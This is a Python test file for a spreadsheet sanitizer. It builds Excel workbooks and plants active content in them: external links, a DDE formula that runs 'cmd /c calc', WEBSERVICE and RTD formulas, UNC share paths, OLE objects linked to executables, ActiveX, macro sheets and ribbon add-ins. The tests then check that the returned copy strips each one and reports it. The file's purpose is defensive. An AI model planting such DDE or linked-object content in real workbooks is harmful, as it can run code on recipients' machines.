"""A copy for a sender holds nothing that runs by itself or fetches from elsewhere, and says so."""

from __future__ import annotations

import io
import re
import zipfile
from hashlib import sha256
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from dxkit.model.findings import Severity
from dxkit.model.observations import SourceFile
from dxkit.press.returned.copies import annotated_copy
from dxkit.press.returned.overview import Line
from dxkit.report.wording.language import load_language
from dxkit.workbooks.atomic import carry_mark_of_the_web

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET, BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
RELATIONS = {
    "": "_rels/.rels", SHEET: "xl/worksheets/_rels/sheet1.xml.rels",
    BOOK: "xl/_rels/workbook.xml.rels",
}  # fmt: skip
ACTIVE_PARTS = re.compile(
    r"externalLink|connections|queryTable|embeddings|activeX|ctrlProp|customUI|macrosheet|vba"
    r"|webextension|volatile|payload",
    re.IGNORECASE,
)
OUTSIDE = re.compile(r"\[\d\]|\||WEBSERVICE|RTD\(|xlsx\]|CUBE", re.IGNORECASE)


class Sent:
    """A sender's workbook: two sheets, a picture's place, a table, formulas; and what is added."""

    def __init__(self, folder: Path) -> None:
        self.path = folder / "biểu.xlsx"
        with xlsxwriter.Workbook(self.path) as book:
            sheet, _ = book.add_worksheet("Số liệu"), book.add_worksheet("Khác")
            for row in range(6):
                sheet.write_number(row, 0, row)
                sheet.write_formula(row, 1, f"=A{row + 1}*2", None, row * 2)
            sheet.write_comment("A1", "ghi chú")
            sheet.write_url("A9", "https://example.invalid/ok", string="trang")
            sheet.add_table("D1:E3", {"data": [[1, 2], [3, 4]]})
            chart = book.add_chart({"type": "bar"})
            chart.add_series({"values": "='Số liệu'!$A$1:$A$4"})
            sheet.insert_chart("H2", chart)
        with zipfile.ZipFile(self.path) as archive:
            self.parts = {name: archive.read(name) for name in archive.namelist()}

    def change(self, part: str, old: str, new: str) -> None:
        assert old.encode() in self.parts[part], (part, old)
        self.parts[part] = self.parts[part].replace(old.encode(), new.encode(), 1)

    def relate(self, part: str, kind: str, target: str, *, external: bool = False) -> None:
        """A relation rX<n> of a part; a target inside is made."""
        name = RELATIONS[part]
        number = self.parts[name].count(b'"rX')
        mode = ' TargetMode="External"' if external else ""
        kind = kind if kind.startswith("http") else f"{OFFICE}/{kind}"
        self.change(
            name,
            "</Relationships>",
            f'<Relationship Id="rX{number}" Type="{kind}" Target="{target}"{mode}/>'
            "</Relationships>",
        )
        if not external:
            self.parts.setdefault(target.lstrip("/"), b"\xd0\xcf\x11\xe0payload")

    def formula(self, row: int, text: str, attributes: str = "") -> None:
        self.change(SHEET, f"<f>A{row}*2</f>", f"<f{attributes}>{text}</f>")

    def copy(self) -> bytes:
        with zipfile.ZipFile(self.path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in self.parts.items():
                archive.writestr(name, content)
        source = SourceFile(self.path.name, sha256(self.path.read_bytes()).hexdigest())
        lines = [Line(Severity.ERROR, "lỗi", "Số liệu", "A3", "2", "Sai.", "Sửa.")]
        content = annotated_copy(self.path, source, lines, "quý IV/2022", load_language("en"))
        assert content is not None
        return content


def external_book(sent: Sent) -> None:
    link = (
        f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}"><externalBook r:id="rId1"/>'
        "</externalLink>"
    )
    sent.parts["xl/externalLinks/externalLink1.xml"] = link.encode()
    sent.parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId1" '
        f'Type="{OFFICE}/externalLinkPath" '
        r'Target="file:///\\host\share\x.xlsx" TargetMode="External"/></Relationships>'
    ).encode()
    sent.relate(BOOK, "externalLink", "/xl/externalLinks/externalLink1.xml")
    sent.change(
        BOOK,
        "</sheets>",
        f'</sheets><externalReferences><externalReference xmlns:r="{OFFICE}" r:id="rX0"/>'
        '</externalReferences><definedNames><definedName name="xa">[1]Sheet1!$A$1</definedName>'
        "<definedName name=\"gần\">'Số liệu'!$A$1</definedName></definedNames>",
    )
    sent.formula(3, "[1]Sheet1!A1+1")


def written_otherwise(sent: Sent) -> None:
    """Case and escapes of names do not count."""
    ole(sent)
    sent.parts["xl/worksheets/_rels/SHEET1.xml.rels"] = sent.parts.pop(RELATIONS[SHEET])


def dde(sent: Sent) -> None:
    link = (
        f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc">'
        '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    )
    sent.parts["xl/externalLinks/externalLink1.xml"] = link.encode()
    sent.relate(BOOK, "externalLink", "/xl/externalLinks/externalLink1.xml")
    sent.formula(2, "cmd|'/c calc'!A0")
    sent.formula(4, 'A1&amp;"|"')  # only a text


def shared_formula(sent: Sent) -> None:
    external_book(sent)
    sent.formula(4, "[1]Sheet1!B1", ' t="shared" ref="B4:B6" si="7"')
    sent.formula(5, "", ' t="shared" si="7"')


def fetching_formulas(sent: Sent) -> None:
    sent.formula(2, '_xlfn.WEBSERVICE("https://example.invalid/"&amp;A1)')
    sent.formula(3, 'RTD("prog.id",,"x")')
    sent.formula(4, "'\\\\host\\share\\[x.xlsx]Sheet1'!A1")


def connection(sent: Sent) -> None:
    sent.relate(BOOK, "connections", "connections.xml")


def query_table(sent: Sent) -> None:
    sent.relate(BOOK, "connections", "connections.xml")
    sent.relate(SHEET, "queryTable", "/xl/queryTables/queryTable1.xml")


def ole(sent: Sent) -> None:
    sent.relate(SHEET, "oleObject", "/xl/embeddings/oleObject1.bin")
    one = f'<oleObject progId="Package" shapeId="1" r:id="rX0" xmlns:r="{OFFICE}"/>'
    sent.change(
        SHEET,
        "<tableParts",
        '<oleObjects><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-'
        f'compatibility/2006"><mc:Choice Requires="x14">{one}</mc:Choice><mc:Fallback>{one}'
        "</mc:Fallback></mc:AlternateContent></oleObjects><tableParts",
    )


def linked_ole(sent: Sent) -> None:
    sent.relate(SHEET, "oleObject", "file:///c:/x.exe", external=True)


def active_x(sent: Sent) -> None:
    sent.relate(SHEET, "control", "/xl/activeX/activeX1.xml")
    control = f'<controls><control shapeId="2" r:id="rX0" xmlns:r="{OFFICE}"/></controls>'
    sent.change(SHEET, "<tableParts", f"{control}<tableParts")


def ribbon(sent: Sent) -> None:
    sent.relate("", f"{MICROSOFT}/ui/extensibility", "customUI/customUI.xml")


def web_extension(sent: Sent) -> None:
    kind = "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"
    sent.relate("", kind, "xl/webextensions/taskpanes.xml")


def macro_sheet(sent: Sent) -> None:
    sent.relate(BOOK, f"{MICROSOFT}/xlMacrosheet", "/xl/macrosheets/sheet1.xml")
    sent.parts["xl/macrosheets/sheet1.xml"] = (
        f'<macrosheet xmlns="{MAIN}"><sheetData/></macrosheet>'.encode()
    )
    sent.change(
        BOOK,
        "</sheets>",
        f'<sheet name="Auto" sheetId="9" xmlns:r="{OFFICE}" r:id="rX0"/></sheets>',
    )


def picture_from_elsewhere(sent: Sent) -> None:
    sent.relate(SHEET, "image", "https://example.invalid/pixel.png", external=True)


def link_to_share(sent: Sent) -> None:
    sent.relate(SHEET, "hyperlink", r"\\host\share\x.exe", external=True)
    sent.change(
        SHEET, "<hyperlinks>", f'<hyperlinks><hyperlink ref="A5" xmlns:r="{OFFICE}" r:id="rX0"/>'
    )


def unknown(sent: Sent) -> None:
    sent.relate(BOOK, "http://schemas.microsoft.com/office/2031/relationships/agent", "/xl/agent1")


def unrelated(sent: Sent) -> None:
    """A part to which nothing leads."""
    sent.parts["xl/embeddings/oleObject7.bin"] = b"\xd0\xcf\x11\xe0payload"


CASES = {
    external_book: "takes in or points to", dde: "takes in or points to",
    shared_formula: "takes in or points to", fetching_formulas: "takes in or points to",
    link_to_share: "takes in or points to", picture_from_elsewhere: "takes in or points to",
    connection: "fetches data", query_table: "fetches data", ole: "embedded files or controls",
    written_otherwise: "embedded files or controls",
    linked_ole: "embedded files or controls", active_x: "embedded files or controls",
    ribbon: "may run by themselves", web_extension: "may run by themselves",
    unknown: "may run by themselves", macro_sheet: "has macros", unrelated: "",
}  # fmt: skip


@pytest.mark.parametrize("spoil", CASES, ids=lambda case: case.__name__)
def test_nothing_active_is_in_a_copy_and_its_first_sheet_says_what_was(
    spoil: object, tmp_path: Path
) -> None:
    sent = Sent(tmp_path)
    spoil(sent)  # type: ignore[operator]
    content = sent.copy()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert [name for name in parts if ACTIVE_PARTS.search(name)] == []
    for name, xml in parts.items():
        text = xml.decode("utf-8", "replace")
        assert "payload" not in text, name
        if name.endswith(".rels"):
            outside = re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', text)
            assert outside in ([], ["https://example.invalid/ok"]), name
        for formula in re.findall(r"<f[^>/]*>([^<]*)</f>|<definedName[^>]*>([^<]*)<", text):
            assert not OUTSIDE.search(
                re.sub('"[^"]*"', "", "".join(formula).replace("&quot;", '"'))
            )
    if spoil is written_otherwise:
        return  # the library that reads here looks at the case
    book = openpyxl.load_workbook(io.BytesIO(content), data_only=True)
    sheet = book["Số liệu"]
    assert [sheet.cell(row, 1).value for row in range(1, 7)] == list(range(6))
    assert [sheet.cell(row, 2).value for row in range(2, 7)] == [2 * row for row in range(1, 6)]
    said = [str(cell.value) for (cell,) in book.worksheets[0]["A1:A8"]]
    told = [line for line in said if line.startswith("The original (")]
    expected = CASES[spoil]  # type: ignore[index]
    assert any(expected in line for line in told) == bool(expected)
    assert book.worksheets[0]["A1"].value


@pytest.mark.parametrize("spoil", [external_book, dde, ole, active_x, connection, ribbon])
def test_what_is_not_active_stays_as_its_sender_made_it(spoil: object, tmp_path: Path) -> None:
    sent = Sent(tmp_path)
    spoil(sent)  # type: ignore[operator]
    with zipfile.ZipFile(io.BytesIO(sent.copy())) as archive:
        names = archive.namelist()
        sheet = archive.read(SHEET).decode()
        relations = archive.read(RELATIONS[SHEET]).decode()
        book = archive.read(BOOK).decode()
    assert "https://example.invalid/ok" in relations
    assert "xl/charts/chart1.xml" in names
    assert "xl/tables/table1.xml" in names
    assert "<f>A1*2</f>" in sheet
    if spoil is external_book:
        assert "gần" in book
    if spoil is dde:
        assert 'A1&amp;"|"' in sheet


def test_the_mark_of_the_web_is_carried_over(tmp_path: Path) -> None:
    """The stream of a file is on other systems a file beside it."""
    source, target = tmp_path / "sent.xlsx", tmp_path / "returned.xlsx"
    mark = b"[ZoneTransfer]\r\nZoneId=3\r\n"
    carry_mark_of_the_web(source, target, has_streams=True)  # there is none
    assert list(tmp_path.iterdir()) == []
    Path(f"{source}:Zone.Identifier").write_bytes(mark)
    carry_mark_of_the_web(source, target, has_streams=True)
    assert Path(f"{target}:Zone.Identifier").read_bytes() == mark
    carry_mark_of_the_web(source, tmp_path / "other.xlsx", has_streams=False)
    assert len(list(tmp_path.iterdir())) == 2
